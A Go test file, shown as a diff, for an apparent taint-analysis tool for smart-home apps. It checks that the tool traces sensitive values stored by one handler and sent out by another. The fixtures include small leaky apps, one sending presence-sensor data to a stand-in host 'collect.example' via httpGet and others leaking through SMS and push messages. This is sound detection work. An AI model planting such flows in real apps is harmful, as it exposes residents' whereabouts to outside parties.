@@ -1,0 +1,118 @@
+package taint_test
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/soteria-analysis/soteria/internal/core"
+)
+
+// resolverApp builds a two-handler app: the writer handler stores an
+// expression in persistent state, the reader handler transmits the
+// field. Symbolic execution of the reader sees only an opaque
+// state-variable mark, so these flows exercise the resolver's
+// app-wide assignment chase.
+func resolverApp(writes, sink string) string {
+	return `
+definition(name: "hop", namespace: "t", author: "t")
+preferences {
+    section("Devices") {
+        input "kids", "capability.presenceSensor"
+        input "note", "text", title: "Note"
+    }
+}
+def installed() {
+    subscribe(kids, "presence", w)
+    subscribe(kids, "presence.not present", r)
+}
+def w(evt) {
+` + writes + `
+}
+def r(evt) {
+    ` + sink + `
+}
+`
+}
+
+// TestResolverCrossHandlerState covers the persistent-state resolution
+// path: a field written by one handler and transmitted by another must
+// resolve back to its sensitive origin, through field-to-field chains,
+// ternaries, and self-referential cycles.
+func TestResolverCrossHandlerState(t *testing.T) {
+	cases := []struct {
+		name   string
+		writes string
+		sink   string
+		wantID string
+		// wantVia and wantSource pin the resolved flow; wantNone
+		// asserts silence.
+		wantVia    string
+		wantSource string
+		wantNone   bool
+	}{
+		{
+			name:       "direct cross-handler hop",
+			writes:     `    state.lastSeen = "k: ${evt.displayName}"`,
+			sink:       `sendSms("555-0100", "last: ${state.lastSeen}")`,
+			wantID:     "T.2",
+			wantVia:    "state.lastSeen",
+			wantSource: "evt.displayName",
+		},
+		{
+			name: "field-to-field chain resolves transitively",
+			writes: `    state.raw = "v: ${evt.value}"
+    state.out = state.raw`,
+			sink:       `httpGet("http://collect.example/?d=${state.out}")`,
+			wantID:     "T.1",
+			wantVia:    "state.out",
+			wantSource: "evt.value",
+		},
+		{
+			name:       "ternary branches both classified",
+			writes:     `    state.memo = evt.value == "present" ? "home ${note}" : "away"`,
+			sink:       `sendPush("memo: ${state.memo}")`,
+			wantID:     "T.6",
+			wantVia:    "state.memo",
+			wantSource: "note",
+		},
+		{
+			name:     "self-referential append terminates and stays clean",
+			writes:   `    state.log = "${state.log}."`,
+			sink:     `sendSms("555-0100", "log: ${state.log}")`,
+			wantNone: true,
+		},
+		{
+			name:     "literal-only field is not sensitive",
+			writes:   `    state.greeting = "hello"`,
+			sink:     `sendSms("555-0100", "g: ${state.greeting}")`,
+			wantNone: true,
+		},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			an, err := core.AnalyzeSources(core.Options{Taint: true},
+				core.NamedSource{Name: "hop", Source: resolverApp(tc.writes, tc.sink)})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if tc.wantNone {
+				if len(an.TaintFlows) != 0 {
+					t.Fatalf("flows = %+v, want none", an.TaintFlows)
+				}
+				return
+			}
+			if len(an.TaintFlows) != 1 {
+				t.Fatalf("flows = %+v, want exactly one", an.TaintFlows)
+			}
+			f := an.TaintFlows[0]
+			if f.ID != tc.wantID || f.Via != tc.wantVia || f.Source != tc.wantSource {
+				t.Errorf("flow = %s %s via %q source %q, want %s via %q source %q",
+					f.ID, f.Sink, f.Via, f.Source, tc.wantID, tc.wantVia, tc.wantSource)
+			}
+			joined := strings.Join(f.Witness, "\n")
+			if !strings.Contains(joined, tc.wantVia) {
+				t.Errorf("witness omits the state hop %q:\n%s", tc.wantVia, joined)
+			}
+		})
+	}
+}
